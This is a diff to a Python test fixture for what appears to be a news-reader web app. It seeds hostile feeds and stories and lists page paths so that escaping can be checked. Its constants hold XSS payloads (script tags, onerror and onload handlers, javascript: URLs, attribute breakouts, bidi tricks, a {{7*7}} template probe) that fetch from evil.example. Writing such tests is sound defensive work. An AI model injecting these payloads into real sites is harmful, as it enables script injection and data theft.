@@ -14,13 +14,19 @@ DAM = "s-82c99982a13e"
 ELSEWHERE = "https://evil.example"
 RUN = "window.ran=1;alert(1);fetch('https://evil.example/x')"
 SCRIPT = f"<script>{RUN}</script>"
-IMAGE = f"\"><img src=x onerror=\"{RUN}\">"
+IMAGE = f'"><img src=x onerror="{RUN}">'
 SVG = f"</title></textarea></noscript><svg onload=\"{RUN}\"><a href='javascript:{RUN}'>x</a></svg>"
 HANDLER = f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='"
 TURNED = "\u202eevitatneserper\u2066 \u200f\u2069\u202c"
 LONG = "w" * 1_000_000
 # A plain word in each, by which they are found.
-WORDS = [f"Quellmouth {SCRIPT}", f"Quellmouth {IMAGE}", f"Quellmouth {SVG}", f"Quellmouth {HANDLER}", f"Quellmouth {TURNED} {{{{ 7*7 }}}}"]
+WORDS = [
+    f"Quellmouth {SCRIPT}",
+    f"Quellmouth {IMAGE}",
+    f"Quellmouth {SVG}",
+    f"Quellmouth {HANDLER}",
+    f"Quellmouth {TURNED} {{{{ 7*7 }}}}",
+]
 SPEAKER = "Ida Brandreth <b onclick=alert(1)>"
 
 _TEXT = (
@@ -43,7 +49,7 @@ def hostile():
         bad = WORDS[number]
         yield {
             "id": f"bad-{number}",
-            "url": f"{ELSEWHERE}/{number}?a=\"><b>" if number % 2 else f"javascript:{RUN}//{number}",
+            "url": f'{ELSEWHERE}/{number}?a="><b>' if number % 2 else f"javascript:{RUN}//{number}",
             "outlet": outlet,
             "title": f"Lock gate gives way in Quellmouth {bad}",
             "published": f"2026-03-1{number}T0{number}:10:00Z" if number == 3 else f"2026-03-10T0{number + 5}:10:00Z",
@@ -97,8 +103,20 @@ def more(place):
 
 
 def _feeds(library, now):
-    good = library.put_feed("https://harbourwire.example/feed", now, site="https://harbourwire.example/", title="Harbour Wire", categories=("Wires",))
-    bad = library.put_feed(f"{ELSEWHERE}/feed?<svg>", now, site=f"javascript:{RUN}", title=f"{SCRIPT}{IMAGE}{SVG}{TURNED}", categories=(f"News {IMAGE}",))
+    good = library.put_feed(
+        "https://harbourwire.example/feed",
+        now,
+        site="https://harbourwire.example/",
+        title="Harbour Wire",
+        categories=("Wires",),
+    )
+    bad = library.put_feed(
+        f"{ELSEWHERE}/feed?<svg>",
+        now,
+        site=f"javascript:{RUN}",
+        title=f"{SCRIPT}{IMAGE}{SVG}{TURNED}",
+        categories=(f"News {IMAGE}",),
+    )
     library.put_polls(
         {
             good: Poll(due_at=now + timedelta(hours=1), checked_at=now, answered_at=now, moved_at=now, status=200),
@@ -107,39 +125,45 @@ def _feeds(library, now):
     )  # fmt: skip
     entry = Entry("e1", f"{ELSEWHERE}/e1", f"An entry {SVG}", now, "<p>teaser</p>")
     [id] = library.put_entries(bad, [entry], now).new
-    library.put_entry_failed(id, Failure(f"{ELSEWHERE}/e1", f"it answers 404 {SCRIPT}", f"look {IMAGE}"), now, now + timedelta(hours=2))
+    library.put_entry_failed(
+        id, Failure(f"{ELSEWHERE}/e1", f"it answers 404 {SCRIPT}", f"look {IMAGE}"), now, now + timedelta(hours=2)
+    )
 
 
-def pages(library):
-    """The path of every kind of page there is, by what it is."""
-    found = {one.id: one for one in library.stories(limit=50, hidden=True).items}
-    by_words = {name: next(id for id, one in found.items() if word in (one.title or "")) for name, word in (("bad", "Quellmouth"), ("right", "נהר"))}
-    articles = {name: library.story(id).articles[0] for name, id in {"dam": DAM, **by_words}.items()}
-    outlets = {one.id: one.name for one in (each.outlet for each in library.outlets())}
-    bad_outlet = next(id for id, name in outlets.items() if "Basin Courier" in name)
-    feeds = {feed.title: feed.id for feed in library.feeds()}
-    bad_feed = next(id for title, id in feeds.items() if title != "Harbour Wire")
-    return {
-        "stories": "/", "latest": "/?order=new", "followed": "/?followed=1", "none": "/?language=xx", "hidden": "/?hidden=1",
-        "story": f"/stories/{DAM}", "claims": f"/stories/{DAM}/claims", "correct": f"/stories/{DAM}/correct",
-        "article": f"/articles/{_quoted(articles['dam'])}?from={DAM}", "report": f"/articles/{_quoted(articles['dam'])}",
-        "search": "/search", "found": "/search?q=dam", "found-quotes": "/search?q=dam&in=quotes", "nothing": "/search?q=unheardof",
-        "people": "/people", "person": "/people/" + _quoted("Ruth Adeyar"), "outlets": "/outlets", "outlet": "/outlets/harbour-wire",
-        "changes": "/changes", "changes-week": "/changes?since=7d", "check": f"/check?story={DAM}", "feeds": "/feeds", "feed": f"/feeds/{feeds['Harbour Wire']}",
-        "failed": "/feeds/failed", "feed-remove": f"/feeds/{feeds['Harbour Wire']}/remove", "alerts": "/alerts", "alert": "/alerts/al-0",
-        "alert-new": "/alerts/new", "alert-remove": "/alerts/al-0/remove", "status": "/status", "settings": "/settings", "api": "/api", "missing": "/nowhere",
-        "right": f"/stories/{by_words['right']}", "right-article": f"/articles/{_quoted(articles['right'])}",
-        "bad-story": f"/stories/{by_words['bad']}", "bad-claims": f"/stories/{by_words['bad']}/claims", "bad-correct": f"/stories/{by_words['bad']}/correct?words={_quoted(IMAGE)}",
-        "bad-article": f"/articles/{_quoted(articles['bad'])}?from={by_words['bad']}", "bad-long": "/articles/" + _quoted(_long(library)), "bad-outlet": f"/outlets/{_quoted(bad_outlet)}",
-        "bad-filter": f"/?outlet={_quoted(bad_outlet)}&category={_quoted(SCRIPT)}", "bad-found": f"/search?q={_quoted('Quellmouth')}", "bad-search": f"/search?q={_quoted(IMAGE + SVG + ' from:' + SCRIPT)}",
-        "bad-quotes": "/search?q=Quellmouth&in=quotes", "bad-person": "/people/" + _quoted("Ida Brandreth"), "bad-nobody": "/people/" + _quoted(SVG), "bad-feed": f"/feeds/{bad_feed}",
-        "bad-alert": "/alerts/al-1", "bad-new": f"/alerts/new?words={_quoted(IMAGE)}", "bad-missing": "/" + _quoted(SVG),
-    }  # fmt: skip
+#: The path of every kind of page there is, by what it is.
+PAGES = {
+    "stories": "/", "latest": "/?order=new", "followed": "/?followed=1", "none": "/?language=xx", "hidden": "/?hidden=1",
+    "story": "/stories/{dam}", "claims": "/stories/{dam}/claims", "correct": "/stories/{dam}/correct",
+    "article": "/articles/{dam_report}?from={dam}", "report": "/articles/{dam_report}",
+    "search": "/search", "found": "/search?q=dam", "found-quotes": "/search?q=gate&in=quotes", "nothing": "/search?q=unheardof",
+    "people": "/people", "person": "/people/Ruth%20Adeyar", "outlets": "/outlets", "outlet": "/outlets/harbour-wire",
+    "changes": "/changes", "changes-week": "/changes?since=7d", "check": "/check?story={dam}",
+    "feeds": "/feeds", "feed": "/feeds/{feed}", "failed": "/feeds/failed", "feed-remove": "/feeds/{feed}/remove",
+    "alerts": "/alerts", "alert": "/alerts/al-0", "alert-new": "/alerts/new", "alert-remove": "/alerts/al-0/remove",
+    "status": "/status", "settings": "/settings", "api": "/api", "missing": "/nowhere",
+    "right": "/stories/{right}", "right-article": "/articles/{right_report}",
+}  # fmt: skip
+#: Those where the hostile reports stand, or what was asked is hostile.
+HOSTILE = {
+    "bad-story": "/stories/{bad}", "bad-claims": "/stories/{bad}/claims", "bad-correct": "/stories/{bad}/correct?words={image}",
+    "bad-article": "/articles/{bad_report}?from={bad}", "bad-long": "/articles/bad-long", "bad-outlet": "/outlets/{bad_outlet}",
+    "bad-filter": "/?outlet={bad_outlet}&category={script}", "bad-latest": "/?order=new", "bad-found": "/search?q=Quellmouth",
+    "bad-search": "/search?q={image}%20{svg}%20from%3A{script}", "bad-quotes": "/search?q=Quellmouth&in=quotes",
+    "bad-people": "/people", "bad-person": "/people/Ida%20Brandreth", "bad-nobody": "/people/{svg}", "bad-outlets": "/outlets",
+    "bad-changes": "/changes?since=7d", "bad-feeds": "/feeds", "bad-feed": "/feeds/{bad_feed}", "bad-failed": "/feeds/failed", "bad-alerts": "/alerts",
+    "bad-alert": "/alerts/al-1", "bad-new": "/alerts/new?words={image}", "bad-status": "/status?did={script}", "bad-missing": "/{svg}",
+}  # fmt: skip
 
 
-def _long(library):
-    return next(one.id for one in library.search("Quellmouth archive", limit=50).items if (one.title or "").startswith("Wordless"))
-
-
-def _quoted(text):
-    return quote(text, safe="")
+def paths(library):
+    """These pages in a library that has it all."""
+    lines = library.stories(limit=50, hidden=True).items
+    stories = {"dam": DAM}
+    for name, word in (("bad", "Quellmouth"), ("right", "נהר")):
+        stories[name] = next(one.id for one in lines if word in (one.title or ""))
+    reports = {f"{name}_report": library.story(id).articles[0] for name, id in stories.items()}
+    feeds = {"feed" if one.title == "Harbour Wire" else "bad_feed": one.id for one in library.feeds()}
+    outlet = next(one.outlet.id for one in library.outlets() if "Basin Courier" in one.outlet.name)
+    words = {"script": SCRIPT, "image": IMAGE, "svg": SVG, "bad_outlet": outlet}
+    asked = {name: quote(value, safe="") for name, value in (stories | reports | feeds | words).items()}
+    return {name: path.format(**asked) for name, path in (PAGES | HOSTILE).items()}
